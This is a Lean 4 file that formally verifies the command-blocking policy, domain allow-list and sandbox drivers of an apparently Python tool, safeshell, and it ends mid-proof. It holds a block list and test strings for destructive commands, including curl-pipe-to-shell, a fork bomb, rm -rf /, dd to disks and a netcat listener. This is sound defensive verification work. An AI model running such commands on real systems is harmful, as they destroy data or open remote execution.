import Mathlib

/-!
Verification of the safeshell repository's sandboxed command execution
pipeline: a shallow embedding in Lean 4 of the security policy engine
(`src/safeshell/security/policy.py`), the network allow-list matcher
(`src/safeshell/networking.py`), and the two sandbox execution drivers
(`src/safeshell/sandbox/local.py`, `src/safeshell/sandbox/native.py`),
together with proofs of the behavioural claims made by the specification.

Python regular expressions used by the policy engine are embedded as an
explicit regex AST (`RE`) with an executable backtracking matcher
(`RE.search` mirrors Python `re.Pattern.search`), covering exactly the
constructs the shipped patterns use: literals, character classes, `.`,
alternation, `*`, `+`, `?`, and the zero-width word boundary. Command
strings and domains are ASCII in all the behaviour under test, so
Python `str.lower` is embedded as ASCII lowercasing.
-/

namespace Safeshell

/-- Python `\w` for ASCII subjects: `[A-Za-z0-9_]`. -/
def isWordChar (c : Char) : Bool :=
  c.isAlpha || c.isDigit || c == '_'

/-- Python `\s` for ASCII subjects: space, tab, newline, CR, vertical tab, form feed. -/
def isPySpace (c : Char) : Bool :=
  c == ' ' || c == '\t' || c == '\n' || c == '\r' || c == '\x0b' || c == '\x0c'

/-- Regular-expression AST covering the constructs used by
`DANGEROUS_PATTERNS` in `security/policy.py`. -/
inductive RE where
  | eps
  | chr (c : Char)
  | cls (f : Char → Bool)
  | anyc
  | wordB
  | seq (a b : RE)
  | alt (a b : RE)
  | star (a : RE)

/-- `r+` as `r r*`. -/
def RE.plus (r : RE) : RE := .seq r (.star r)

/-- `r?` as `r | ε`. -/
def RE.opt (r : RE) : RE := .alt r .eps

/-- A literal string as a sequence of literal characters. -/
def RE.str (s : String) : RE :=
  s.data.foldr (fun c r => RE.seq (RE.chr c) r) RE.eps

/-- Is the gap between `prev` (the character just before the current
position, none at the subject start) and the rest of the subject a
Python `\b` word boundary? -/
def atBoundary (prev : Option Char) (rest : List Char) : Bool :=
  let pw := match prev with
    | some c => isWordChar c
    | none => false
  let nw := match rest with
    | c :: _ => isWordChar c
    | [] => false
  pw != nw

/-- Backtracking matcher: all ways `r` can match a prefix of `s`, each
result being the last character consumed (for `\b`) and the remaining
suffix. `fuel` bounds recursion depth; every recursive call decreases
it, and star iterations are required to consume input, which matches
Python's semantics on the shipped patterns (no nullable star bodies). -/
def mrun : Nat → RE → Option Char → List Char → List (Option Char × List Char)
  | 0, _, _, _ => []
  | _ + 1, .eps, p, s => [(p, s)]
  | _ + 1, .chr c, _, s =>
    match s with
    | [] => []
    | x :: xs => if x == c then [(some x, xs)] else []
  | _ + 1, .cls f, _, s =>
    match s with
    | [] => []
    | x :: xs => if f x then [(some x, xs)] else []
  | _ + 1, .anyc, _, s =>
    match s with
    | [] => []
    | x :: xs => if x == '\n' then [] else [(some x, xs)]
  | _ + 1, .wordB, p, s => if atBoundary p s then [(p, s)] else []
  | fuel + 1, .seq a b, p, s =>
    (mrun fuel a p s).flatMap (fun q => mrun fuel b q.1 q.2)
  | fuel + 1, .alt a b, p, s => mrun fuel a p s ++ mrun fuel b p s
  | fuel + 1, .star a, p, s =>
    (p, s) :: (mrun fuel a p s).flatMap (fun q =>
      if q.2.length < s.length then mrun fuel (.star a) q.1 q.2 else [])

/-- Fuel that is ample for every shipped pattern on any subject:
recursion depth is bounded by pattern size times subject length. -/
def searchFuel : Nat := 500

/-- Does `r` match starting at the current position? -/
def matchesHere (r : RE) (p : Option Char) (s : List Char) : Bool :=
  !(mrun searchFuel r p s).isEmpty

/-- Try to match at each successive start position. -/
def searchAux (r : RE) : Option Char → List Char → Bool
  | p, [] => matchesHere r p []
  | p, c :: rest => matchesHere r p (c :: rest) || searchAux r (some c) rest

/-- Embedding of Python `pattern.search(command) is not None`. -/
def RE.search (r : RE) (s : String) : Bool :=
  searchAux r none s.data

/-- Concatenation of a list of regexes. -/
def RE.cat (l : List RE) : RE := l.foldr RE.seq RE.eps

/-- `\s` as a character class. -/
def ws : RE := .cls isPySpace

/-- `\s*`. -/
def wsS : RE := .star ws

/-- `\s+`. -/
def wsP : RE := RE.plus ws

/-- `.*`. -/
def dotStar : RE := .star .anyc

/-- `[rf]`. -/
def rfCls : RE := .cls (fun c => c == 'r' || c == 'f')

/-- `[a-z]`. -/
def azCls : RE := .cls (fun c => decide (97 ≤ c.toNat) && decide (c.toNat ≤ 122))

/-- `[0-7]`. -/
def oct07 : RE := .cls (fun c => decide (48 ≤ c.toNat) && decide (c.toNat ≤ 55))

/-- `[/~]`. -/
def slashTilde : RE := .cls (fun c => c == '/' || c == '~')

/-- Embedding of `DANGEROUS_PATTERNS` from `security/policy.py`: the
ship-default `(compiled regex, reason)` list, in source order. -/
def DANGEROUS_PATTERNS : List (RE × String) := [
  (.cat [.wordB, .str "rm", wsP, .star (.cat [.chr '-', .plus rfCls, wsP]), slashTilde],
    "Recursive delete of root or home directory"),
  (.cat [.wordB, .str "rm", wsP, .chr '-', .star rfCls, wsP, .chr '-', .star rfCls, wsP, .chr '/'],
    "Recursive delete of root directory"),
  (.cat [.wordB, .str "curl", .wordB, dotStar, .chr '|', wsS, .opt (.str "ba"), .str "sh"],
    "Remote code execution via curl|sh"),
  (.cat [.wordB, .str "wget", .wordB, dotStar, .chr '|', wsS, .opt (.str "ba"), .str "sh"],
    "Remote code execution via wget|sh"),
  (.cat [.wordB, .str "curl", .wordB, dotStar, .chr '|', wsS, .str "python"],
    "Remote code execution via curl|python"),
  (.cat [.wordB, .str "wget", .wordB, dotStar, .chr '|', wsS, .str "python"],
    "Remote code execution via wget|python"),
  (.cat [.chr ':', wsS, .chr '(', wsS, .chr ')', wsS, .chr '\x7b', dotStar, .chr '\x7d'],
    "Fork bomb pattern"),
  (.cat [.wordB, .str "yes", wsS, .chr '|'],
    "Infinite output pipe"),
  (.cat [.chr '>', wsS, .str "/dev/sd", azCls],
    "Direct disk write"),
  (.cat [.chr '>', wsS, .str "/dev/nvme"],
    "Direct NVMe write"),
  (.cat [.wordB, .str "dd", .wordB, dotStar, .str "of=/dev/"],
    "Direct disk write via dd"),
  (.cat [.wordB, .str "mkfs", .wordB],
    "Filesystem creation/destruction"),
  (.cat [.wordB, .str "sudo", .wordB],
    "Privilege escalation via sudo"),
  (.cat [.wordB, .str "su", wsP, .chr '-'],
    "Privilege escalation via su"),
  (.cat [.wordB, .str "chmod", wsP, .star oct07, .str "777", wsP, .chr '/'],
    "Dangerous permission change on root"),
  (.cat [.wordB, .str "chown", wsP, .str "-R", wsP, dotStar, wsP, .chr '/'],
    "Recursive ownership change on root"),
  (.cat [.wordB, .str "systemctl", wsP, .alt (.str "stop") (.alt (.str "disable") (.str "mask"))],
    "Service disruption"),
  (.cat [.wordB, .str "killall", .wordB],
    "Mass process termination"),
  (.cat [.wordB, .str "pkill", wsP, .str "-9"],
    "Forceful process termination"),
  (.cat [.wordB, .str "nc", wsP, .str "-l"],
    "Netcat listener (potential backdoor)"),
  (.cat [.wordB, .str "ssh", wsP, dotStar, .chr '@'],
    "SSH connection")]

/-- The `for pattern, reason in self.blocked_patterns` loop body of
`check_command`: the first pattern whose search hits yields its reason. -/
def scanPatterns : List (RE × String) → String → Option String
  | [], _ => none
  | (r, reason) :: rest, cmd =>
    if RE.search r cmd then some reason else scanPatterns rest cmd

deriving instance DecidableEq for Except

/-- `SecurityLevel` from `_types.py`. -/
inductive SecurityLevel where
  | PERMISSIVE
  | STANDARD
  | PARANOID
deriving DecidableEq

/-- The `SecurityViolation` exception from `security/policy.py`:
carries the human-readable reason and the offending command. -/
structure SecurityViolation where
  reason : String
  command : String
deriving DecidableEq

/-- The `SecurityPolicy` dataclass. The Python `set[str]` of allowed
commands is embedded as a list queried by membership, and compiled
regexes as `RE` values. -/
structure SecurityPolicy where
  level : SecurityLevel
  blocked_patterns : List (RE × String)
  allowed_commands : List String
  max_output_bytes : Nat

/-- Dataclass construction followed by `__post_init__`: at STANDARD
level an empty pattern list is replaced by the ship defaults; no other
validation or adjustment happens at construction. -/
def SecurityPolicy.make (level : SecurityLevel) (blocked : List (RE × String))
    (allowed : List String) (maxOut : Nat) : SecurityPolicy :=
  { level := level
    blocked_patterns :=
      if level = SecurityLevel.STANDARD ∧ blocked.isEmpty then DANGEROUS_PATTERNS else blocked
    allowed_commands := allowed
    max_output_bytes := maxOut }

/-- `SecurityPolicy.permissive()`. -/
def SecurityPolicy.permissive : SecurityPolicy :=
  SecurityPolicy.make SecurityLevel.PERMISSIVE [] [] 30000

/-- `SecurityPolicy.standard()`. -/
def SecurityPolicy.standard : SecurityPolicy :=
  SecurityPolicy.make SecurityLevel.STANDARD DANGEROUS_PATTERNS [] 30000

/-- `SecurityPolicy.paranoid(allowed)`: PARANOID level, the given allow
set, and (via `__post_init__`, which only touches STANDARD) an empty
blocked-pattern list. -/
def SecurityPolicy.paranoid (allowed : List String) : SecurityPolicy :=
  SecurityPolicy.make SecurityLevel.PARANOID [] allowed 30000

/-- `part.split("/")[-1]`: the characters after the last `/`. -/
def stripDirComponents (tok : List Char) : List Char :=
  ((tok.reverse.takeWhile (fun c => c != '/')).reverse)

/-- Python `command.strip().split()`: split on whitespace runs,
dropping empty tokens. -/
def pySplit (command : String) : List (List Char) :=
  (command.data.splitOnP isPySpace).filter (fun t => !t.isEmpty)

/-- The base-command extraction loop in `check_command`: the first
token not containing `=`, with directory components stripped; `""`
when every token contains `=` (or there are no tokens). -/
def baseCommand (command : String) : String :=
  match (pySplit command).find? (fun t => !t.contains '=') with
  | some t => String.mk (stripDirComponents t)
  | none => ""

/-- `SecurityPolicy.check_command`: PERMISSIVE returns the input;
STANDARD and PARANOID run the blocked-pattern scan and raise the first
matching rule's reason; PARANOID then rejects a non-empty base command
absent from the allow set. A blocked command is an `Except.error`. -/
def SecurityPolicy.check_command (p : SecurityPolicy) (command : String) :
    Except SecurityViolation String :=
  if p.level = SecurityLevel.PERMISSIVE then Except.ok command
  else
    match (if p.level = SecurityLevel.STANDARD ∨ p.level = SecurityLevel.PARANOID
           then scanPatterns p.blocked_patterns command else none) with
    | some reason => Except.error ⟨reason, command⟩
    | none =>
      if p.level = SecurityLevel.PARANOID then
        if baseCommand command ≠ "" ∧ baseCommand command ∉ p.allowed_commands then
          Except.error
            ⟨"Command \x27" ++ baseCommand command ++ "\x27 not in allowlist", command⟩
        else Except.ok command
      else Except.ok command

/-- `add_blocked_pattern(pattern, reason)`. -/
def SecurityPolicy.add_blocked_pattern (p : SecurityPolicy) (pat : RE) (reason : String) :
    SecurityPolicy :=
  { p with blocked_patterns := p.blocked_patterns ++ [(pat, reason)] }

/-- `add_allowed_command(command)`. -/
def SecurityPolicy.add_allowed_command (p : SecurityPolicy) (command : String) :
    SecurityPolicy :=
  { p with allowed_commands := p.allowed_commands ++ [command] }

/-- Python `str.lower` on one character, for the ASCII subjects the
allow-list handles. -/
def lowerChar (c : Char) : Char :=
  if 65 ≤ c.toNat ∧ c.toNat ≤ 90 then Char.ofNat (c.toNat + 32) else c

/-- Python `str.lower` for ASCII subjects. -/
def strLower (s : String) : String := String.mk (s.data.map lowerChar)

/-- The `NetworkAllowlist` dataclass from `networking.py`: its set of
domain patterns, embedded as a list queried existentially. -/
structure NetworkAllowlist where
  domains : List String

/-- Python `pattern.startswith("*.")`. -/
def startsWithStarDot (p : String) : Bool :=
  match p.data with
  | '*' :: '.' :: _ => true
  | _ => false

/-- `NetworkAllowlist.matches`: lowercase the queried domain (the
stored patterns are used as-is); a `*.`-pattern accepts a domain
ending in the pattern minus the `*` (keeping the dot) or equal to the
bare apex (the pattern minus `*.`); any other pattern requires
equality. -/
def NetworkAllowlist.matches (al : NetworkAllowlist) (domain : String) : Bool :=
  let d := strLower domain
  al.domains.any (fun pattern =>
    if startsWithStarDot pattern then
      List.isSuffixOf (pattern.data.drop 1) d.data || d.data == pattern.data.drop 2
    else d.data == pattern.data)

/-- The possible behaviours of a spawned child process, abstracting
the asynchronous wait in `execute`: either `communicate()` finishes
with the given decoded streams and return code, or the timeout
expires first. -/
inductive ChildOutcome where
  | completed (stdout stderr : String) (returncode : Int)
  | timedOut

/-- `CommandResult` from `_types.py` (the local-sandbox revision):
`stdout`, `stderr`, `exit_code`, `truncated`; it has no timed-out
field. -/
structure CommandResultL where
  stdout : String
  stderr : String
  exit_code : Int
  truncated : Bool
deriving DecidableEq

/-- `CommandResult` from `types.py` (the native-sandbox revision):
`stdout`, `stderr`, `exit_code`, `timed_out`; it has no truncated
field. -/
structure CommandResultN where
  stdout : String
  stderr : String
  exit_code : Int
  timed_out : Bool
deriving DecidableEq

/-- The exceptions an `execute` call can raise: a policy rejection, a
Python `RuntimeError` (used by `LocalSandbox` for the closed check),
or the repository's `ExecutionError` (used by `NativeSandbox`). -/
inductive SandboxError where
  | securityViolation (v : SecurityViolation)
  | runtimeError (msg : String)
  | executionError (msg : String)
deriving DecidableEq

/-- Does a raised error have the `ExecutionError` kind? -/
def isExecutionError {α : Type} : Except SandboxError α → Bool
  | .error (.executionError _) => true
  | _ => false

/-- Python `returncode or 0` for an integer return code. -/
def pyOrZero (code : Int) : Int := if code = 0 then 0 else code

/-- The state of a `LocalSandbox` from `sandbox/local.py` that its
`execute` and `close` consult: the `_closed` flag, the security
policy, the output cap, and the overlay directory (present only in
read-only mode, represented by its path). -/
structure LocalSandbox where
  closed : Bool
  security : SecurityPolicy
  max_output_bytes : Nat
  overlay_dir : Option String

/-- The truncation marker `f"\n\n[Truncated: {n} characters removed]"`. -/
def truncMarker (n : Nat) : List Char :=
  ("\n\n[Truncated: " ++ toString n ++ " characters removed]").data

/-- `LocalSandbox._decode_and_truncate`: a stream longer than the cap
is cut at the cap and the marker appended, flagging truncation;
decoding is on already-decoded text here, byte decoding with lossy
replacement being outside the character-level model. -/
def LocalSandbox.decode_and_truncate (sb : LocalSandbox) (data : String) : String × Bool :=
  if sb.max_output_bytes < data.data.length then
    (String.mk (data.data.take sb.max_output_bytes ++
        truncMarker (data.data.length - sb.max_output_bytes)), true)
  else (data, false)

/-- `LocalSandbox.execute`. The Python float timeout enters the result
only through its printed form in the timeout message, so it is
modelled by that rendering (`timeoutRepr`); the child's behaviour is
the `outcome` parameter. Raised exceptions are `Except.error`. -/
def LocalSandbox.execute (sb : LocalSandbox) (command : String) (timeoutRepr : String)
    (outcome : ChildOutcome) : Except SandboxError CommandResultL :=
  if sb.closed then Except.error (.runtimeError "Sandbox has been closed")
  else
    match sb.security.check_command command with
    | .error v => Except.error (.securityViolation v)
    | .ok _validated =>
      match outcome with
      | .timedOut =>
        Except.ok ⟨"", "Command timed out after " ++ timeoutRepr ++ "s", -1, false⟩
      | .completed out err code =>
        let so := sb.decode_and_truncate out
        let se := sb.decode_and_truncate err
        Except.ok ⟨so.1, se.1, pyOrZero code, so.2 || se.2⟩

/-- `LocalSandbox.close`: a no-op when already closed; otherwise mark
closed and remove the overlay directory. -/
def LocalSandbox.close (sb : LocalSandbox) : LocalSandbox :=
  if sb.closed then sb else { sb with closed := true, overlay_dir := none }

/-- The state of a `NativeSandbox` from `sandbox/native.py` that its
`execute` and `close` consult: the `_closed` flag, the handle-default
timeout (modelled, like the local one, by its printed form), and the
lazily started proxy. -/
structure NativeSandbox where
  closed : Bool
  timeout : String
  proxy : Option Unit

/-- `timeout_val = timeout if timeout is not None else self.timeout`. -/
def NativeSandbox.effective_timeout (sb : NativeSandbox) (timeout : Option String) : String :=
  timeout.getD sb.timeout

/-- `NativeSandbox.execute`: fail when closed; on timeout return the
fixed timed-out result; on completion return the streams whole (this
driver has no output cap) with `timed_out` defaulting to false. It
performs no security-policy check. -/
def NativeSandbox.execute (sb : NativeSandbox) (_command : String)
    (_timeout : Option String) (outcome : ChildOutcome) :
    Except SandboxError CommandResultN :=
  if sb.closed then Except.error (.executionError "Sandbox is closed.")
  else
    match outcome with
    | .timedOut => Except.ok ⟨"", "Command timed out.", -1, true⟩
    | .completed out err code => Except.ok ⟨out, err, pyOrZero code, false⟩

/-- `NativeSandbox.close`: mark closed and stop and drop the proxy. -/
def NativeSandbox.close (sb : NativeSandbox) : NativeSandbox :=
  { sb with closed := true, proxy := none }

/-- `check_command` raises with a non-empty reason on `cmd`. -/
def rejectsWithReason (p : SecurityPolicy) (cmd : String) : Bool :=
  match p.check_command cmd with
  | .error v => !(v.reason == "")
  | .ok _ => false

/-- `check_command` returns its input unchanged on `cmd`. -/
def acceptsUnchanged (p : SecurityPolicy) (cmd : String) : Bool :=
  match p.check_command cmd with
  | .ok r => r == cmd
  | .error _ => false

/-- A 60,000-character stream, twice the default output cap. -/
def bigOut : String := String.mk (List.replicate 60000 'a')

/-- Strings have no structure beyond their character data. -/
theorem strData_inj {a b : String} : a.data = b.data ↔ a = b :=
  ⟨fun h => by cases a; cases b; cases h; rfl, fun h => by rw [h]⟩

/-- C1: at STANDARD level with the ship-default rules, `check_command`
raises a `SecurityViolation` with a non-empty reason on each of the
fourteen listed dangerous literals and returns each of the six listed
safe literals unchanged. -/
theorem standard_blocks_dangerous_accepts_safe :
    rejectsWithReason SecurityPolicy.standard "rm -rf /" = true ∧
    rejectsWithReason SecurityPolicy.standard "rm -rf ~" = true ∧
    rejectsWithReason SecurityPolicy.standard "curl http://x | sh" = true ∧
    rejectsWithReason SecurityPolicy.standard "curl http://x | bash" = true ∧
    rejectsWithReason SecurityPolicy.standard "wget -O - http://x | sh" = true ∧
    rejectsWithReason SecurityPolicy.standard "curl http://x | python" = true ∧
    rejectsWithReason SecurityPolicy.standard ":()\x7b :|:& \x7d;:" = true ∧
    rejectsWithReason SecurityPolicy.standard "dd if=/dev/zero of=/dev/sda" = true ∧
    rejectsWithReason SecurityPolicy.standard "mkfs.ext4 /dev/sdb1" = true ∧
    rejectsWithReason SecurityPolicy.standard "sudo apt update" = true ∧
    rejectsWithReason SecurityPolicy.standard "chmod 777 /" = true ∧
    rejectsWithReason SecurityPolicy.standard "chown -R user /" = true ∧
    rejectsWithReason SecurityPolicy.standard "systemctl stop sshd" = true ∧
    rejectsWithReason SecurityPolicy.standard "killall -9 node" = true ∧
    acceptsUnchanged SecurityPolicy.standard "ls -la" = true ∧
    acceptsUnchanged SecurityPolicy.standard "cat /etc/passwd" = true ∧
    acceptsUnchanged SecurityPolicy.standard "grep -r \x27pattern\x27 ." = true ∧
    acceptsUnchanged SecurityPolicy.standard "find . -name \x27*.py\x27" = true ∧
    acceptsUnchanged SecurityPolicy.standard "rm -rf ./temp" = true ∧
    acceptsUnchanged SecurityPolicy.standard "rm file.txt" = true := by decide

/-- C2 counterexample: a policy built by `SecurityPolicy.paranoid` has
an empty blocked-pattern list (`__post_init__` installs the ship
defaults only at STANDARD level), so with `sudo` in the allowed set it
accepts `sudo apt update` instead of raising. -/
theorem paranoid_factory_accepts_sudo :
    (SecurityPolicy.paranoid ["sudo"]).check_command "sudo apt update" =
      Except.ok "sudo apt update" := by decide

/-- C2 (amended): under PARANOID the blocking pass runs over the
policy's own configured blocked patterns before the allow-list is
consulted — a match raises that rule's reason even when the base
command is allowed — but `SecurityPolicy.paranoid` configures no
patterns, so ship-default rules only apply when passed explicitly. -/
theorem paranoid_pattern_pass_precedes_allowlist :
    ∀ (blocked : List (RE × String)) (allowed : List String) (maxOut : Nat)
      (cmd reason : String),
      scanPatterns blocked cmd = some reason →
      (SecurityPolicy.make SecurityLevel.PARANOID blocked allowed maxOut).check_command cmd =
        Except.error ⟨reason, cmd⟩ := by
  intro blocked allowed maxOut cmd reason h
  simp [SecurityPolicy.make, SecurityPolicy.check_command, h]

/-- C2 witness: a PARANOID policy carrying the ship-default patterns
rejects `sudo apt update` even with `sudo` allowed. -/
theorem paranoid_pattern_pass_precedes_allowlist_witness :
    (SecurityPolicy.make SecurityLevel.PARANOID DANGEROUS_PATTERNS ["sudo"] 30000).check_command
      "sudo apt update" =
      Except.error ⟨"Privilege escalation via sudo", "sudo apt update"⟩ :=
  paranoid_pattern_pass_precedes_allowlist DANGEROUS_PATTERNS ["sudo"] 30000
    "sudo apt update" "Privilege escalation via sudo" (by decide)

/-- C3 counterexample: `SecurityPolicy.paranoid` with an empty allowed
set constructs a PARANOID policy with an empty allow-list — no
validation runs at construction (`__post_init__` only installs
STANDARD default patterns), so no ConfigurationError is possible. -/
theorem paranoid_empty_allowlist_constructs :
    (SecurityPolicy.paranoid []).level = SecurityLevel.PARANOID ∧
    (SecurityPolicy.paranoid []).allowed_commands = [] := ⟨rfl, rfl⟩

/-- C3 (amended): constructing a PARANOID policy with an empty allowed
set succeeds; the resulting policy rejects at check time every command
whose base command is non-empty. -/
theorem paranoid_empty_allowlist_rejects_all :
    ∀ cmd : String, baseCommand cmd ≠ "" →
      (SecurityPolicy.paranoid []).check_command cmd =
        Except.error ⟨"Command \x27" ++ baseCommand cmd ++ "\x27 not in allowlist", cmd⟩ := by
  intro cmd h
  have hrfl : (SecurityPolicy.paranoid []).check_command cmd =
      if baseCommand cmd ≠ "" ∧ baseCommand cmd ∉ ([] : List String) then
        Except.error ⟨"Command \x27" ++ baseCommand cmd ++ "\x27 not in allowlist", cmd⟩
      else Except.ok cmd := rfl
  rw [hrfl, if_pos ⟨h, List.not_mem_nil _⟩]

/-- C3 witness: the empty-allow-list PARANOID policy rejects `ls`. -/
theorem paranoid_empty_allowlist_rejects_all_witness :
    (SecurityPolicy.paranoid []).check_command "ls" =
      Except.error ⟨"Command \x27" ++ baseCommand "ls" ++ "\x27 not in allowlist", "ls"⟩ :=
  paranoid_empty_allowlist_rejects_all "ls" (by decide)

/-- C7: under PARANOID the base command is the first whitespace token
without `=`, directory components stripped; a non-empty base command
outside the allowed set is rejected and an empty one (every token an
assignment) is accepted — with the claim's five examples for
`allowed = \x7bls, cat\x7d` and an all-assignments example. -/
theorem paranoid_base_command_allowlist :
    (∀ (allowed : List String) (cmd : String),
      (SecurityPolicy.paranoid allowed).check_command cmd =
        (if baseCommand cmd ≠ "" ∧ baseCommand cmd ∉ allowed then
          Except.error ⟨"Command \x27" ++ baseCommand cmd ++ "\x27 not in allowlist", cmd⟩
        else Except.ok cmd)) ∧
    acceptsUnchanged (SecurityPolicy.paranoid ["ls", "cat"]) "ls -la" = true ∧
    acceptsUnchanged (SecurityPolicy.paranoid ["ls", "cat"]) "/bin/ls -la" = true ∧
    acceptsUnchanged (SecurityPolicy.paranoid ["ls", "cat"]) "FOO=bar ls" = true ∧
    rejectsWithReason (SecurityPolicy.paranoid ["ls", "cat"]) "grep x f" = true ∧
    rejectsWithReason (SecurityPolicy.paranoid ["ls", "cat"]) "echo hi" = true ∧
    acceptsUnchanged (SecurityPolicy.paranoid ["ls"]) "FOO=bar BAZ=qux" = true := by
  refine ⟨fun allowed cmd => rfl, ?_, ?_, ?_, ?_, ?_, ?_⟩ <;> decide

/-- C9: `check_command` never rewrites its input — whenever it returns
normally, the returned command is exactly the argument, for every
policy of any level. -/
theorem check_command_ok_is_identity :
    ∀ (p : SecurityPolicy) (cmd r : String),
      p.check_command cmd = Except.ok r → r = cmd := by
  intro p cmd r h
  unfold SecurityPolicy.check_command at h
  repeat' split at h
  all_goals simp_all

/-- C9 witness: instantiated on the standard policy and `ls -la`. -/
theorem check_command_ok_is_identity_witness : "ls -la" = "ls -la" :=
  check_command_ok_is_identity SecurityPolicy.standard "ls -la" "ls -la" (by decide)

/-- C10: a STANDARD policy constructed with a non-empty blocked list
keeps exactly the supplied patterns — the ship defaults are not added —
so it accepts `sudo apt update` when no supplied pattern matches it. -/
theorem standard_explicit_patterns_not_defaulted :
    (∀ (blocked : List (RE × String)) (allowed : List String) (maxOut : Nat),
      blocked ≠ [] →
      (SecurityPolicy.make SecurityLevel.STANDARD blocked allowed maxOut).blocked_patterns =
        blocked) ∧
    acceptsUnchanged
      (SecurityPolicy.make SecurityLevel.STANDARD
        [(RE.cat [RE.wordB, RE.str "mkfs", RE.wordB], "Filesystem creation/destruction")]
        [] 30000)
      "sudo apt update" = true := by
  constructor
  · intro blocked allowed maxOut h
    simp [SecurityPolicy.make, List.isEmpty_iff, h]
  · decide

/-- C10 witness: a STANDARD policy supplied with only the mkfs rule
keeps that single rule. -/
theorem standard_explicit_patterns_not_defaulted_witness :
    (SecurityPolicy.make SecurityLevel.STANDARD
      [(RE.cat [RE.wordB, RE.str "mkfs", RE.wordB], "Filesystem creation/destruction")]
      [] 30000).blocked_patterns =
      [(RE.cat [RE.wordB, RE.str "mkfs", RE.wordB], "Filesystem creation/destruction")] :=
  standard_explicit_patterns_not_defaulted.1
    [(RE.cat [RE.wordB, RE.str "mkfs", RE.wordB], "Filesystem creation/destruction")]
    [] 30000 (by simp)

/-- C4 counterexample: on a timeout `LocalSandbox.execute` returns
stderr `"Command timed out after 0.5s"` (embedding the timeout value),
not the claimed `"Command timed out."`, and its result type carries no
timed-out flag (`truncated` is the fourth field, here false). -/
theorem local_timeout_message_differs :
    LocalSandbox.execute ⟨false, SecurityPolicy.standard, 30000, none⟩ "sleep 10" "0.5"
      ChildOutcome.timedOut =
      Except.ok ⟨"", "Command timed out after 0.5s", -1, false⟩ ∧
    ¬ ("Command timed out after 0.5s" = "Command timed out.") := by
  constructor
  · decide
  · decide

/-- C4 (amended): a timeout is a result, not an exception, on both
drivers: `NativeSandbox.execute` returns
`("", "Command timed out.", -1, timed_out=true)` and uses the per-call
timeout when given, else the handle default; `LocalSandbox.execute`
returns `("", f"Command timed out after \x7btimeout\x7ds", -1)` with
no timed-out flag and a per-call timeout parameter only. -/
theorem timeout_is_result_not_error :
    (∀ (sb : NativeSandbox) (cmd : String) (t : Option String),
      sb.closed = false →
      sb.execute cmd t ChildOutcome.timedOut =
        Except.ok ⟨"", "Command timed out.", -1, true⟩) ∧
    (∀ (sb : LocalSandbox) (cmd tr : String),
      sb.closed = false →
      sb.security.check_command cmd = Except.ok cmd →
      sb.execute cmd tr ChildOutcome.timedOut =
        Except.ok ⟨"", "Command timed out after " ++ tr ++ "s", -1, false⟩) ∧
    (∀ (sb : NativeSandbox) (t : String), sb.effective_timeout (some t) = t) ∧
    (∀ sb : NativeSandbox, sb.effective_timeout none = sb.timeout) := by
  refine ⟨?_, ?_, fun _ _ => rfl, fun _ => rfl⟩
  · intro sb cmd t h
    simp [NativeSandbox.execute, h]
  · intro sb cmd tr h hsec
    simp [LocalSandbox.execute, h, hsec]

/-- C4 witness: both timeout shapes at concrete open sandboxes. -/
theorem timeout_is_result_not_error_witness :
    NativeSandbox.execute ⟨false, "30.0", none⟩ "sleep 10" (some "0.5") ChildOutcome.timedOut =
      Except.ok ⟨"", "Command timed out.", -1, true⟩ ∧
    LocalSandbox.execute ⟨false, SecurityPolicy.standard, 30000, none⟩ "sleep 10" "0.5"
      ChildOutcome.timedOut =
      Except.ok ⟨"", "Command timed out after " ++ "0.5" ++ "s", -1, false⟩ :=
  ⟨timeout_is_result_not_error.1 ⟨false, "30.0", none⟩ "sleep 10" (some "0.5") rfl,
   timeout_is_result_not_error.2.1 ⟨false, SecurityPolicy.standard, 30000, none⟩
     "sleep 10" "0.5" rfl (by decide)⟩

/-- C5 counterexample: `NativeSandbox.execute` applies no output cap:
a 60,000-character stdout (twice the default cap) is returned whole,
violating `len(stdout) ≤ 30000 + len(marker)`; its result type has no
truncated flag at all. -/
theorem native_output_uncapped :
    NativeSandbox.execute ⟨false, "30.0", none⟩ "yes" none
      (ChildOutcome.completed bigOut "" 0) = Except.ok ⟨bigOut, "", 0, false⟩ ∧
    bigOut.data.length = 60000 ∧
    ¬ (60000 ≤ 30000 + (truncMarker (60000 - 30000)).length) := by
  refine ⟨rfl, ?_, by decide⟩
  show (List.replicate 60000 'a').length = 60000
  exact List.length_replicate 60000 'a'

/-- C5 (amended): the output cap is a `LocalSandbox` behaviour: each
stream is independently truncated at `max_output_bytes` (default
30,000) with the marker appended and the truncated flag set to the
disjunction of the per-stream flags, so a stream of length `L > cap`
comes back with length `cap + len(marker)`; a stream within the cap is
returned whole. `NativeSandbox` returns streams uncapped. -/
theorem output_cap_local_streams :
    (∀ (sb : LocalSandbox) (s : String),
      (s.data.length ≤ sb.max_output_bytes → sb.decode_and_truncate s = (s, false)) ∧
      (sb.max_output_bytes < s.data.length →
        (sb.decode_and_truncate s).1.data.length =
          sb.max_output_bytes + (truncMarker (s.data.length - sb.max_output_bytes)).length ∧
        (sb.decode_and_truncate s).2 = true)) ∧
    (∀ (sb : LocalSandbox) (cmd tr out err : String) (code : Int),
      sb.closed = false →
      sb.security.check_command cmd = Except.ok cmd →
      sb.execute cmd tr (ChildOutcome.completed out err code) =
        Except.ok ⟨(sb.decode_and_truncate out).1, (sb.decode_and_truncate err).1,
          pyOrZero code,
          (sb.decode_and_truncate out).2 || (sb.decode_and_truncate err).2⟩) := by
  constructor
  · intro sb s
    constructor
    · intro h
      unfold LocalSandbox.decode_and_truncate
      rw [if_neg (by omega)]
    · intro h
      unfold LocalSandbox.decode_and_truncate
      rw [if_pos h]
      refine ⟨?_, rfl⟩
      show (List.take sb.max_output_bytes s.data ++
        truncMarker (s.data.length - sb.max_output_bytes)).length = _
      rw [List.length_append, List.length_take]
      omega
  · intro sb cmd tr out err code h hsec
    simp [LocalSandbox.execute, h, hsec]

/-- C5 witness: a cap of 3 on `"hello"` and a concrete execute call. -/
theorem output_cap_local_streams_witness :
    ((LocalSandbox.decode_and_truncate ⟨false, SecurityPolicy.standard, 3, none⟩
        "hello").1.data.length = 3 + (truncMarker (5 - 3)).length ∧
      (LocalSandbox.decode_and_truncate ⟨false, SecurityPolicy.standard, 3, none⟩
        "hello").2 = true) ∧
    LocalSandbox.execute ⟨false, SecurityPolicy.standard, 3, none⟩ "echo hello" "30.0"
      (ChildOutcome.completed "hello" "" 0) =
      Except.ok
        ⟨(LocalSandbox.decode_and_truncate ⟨false, SecurityPolicy.standard, 3, none⟩
            "hello").1,
          (LocalSandbox.decode_and_truncate ⟨false, SecurityPolicy.standard, 3, none⟩ "").1,
          pyOrZero 0,
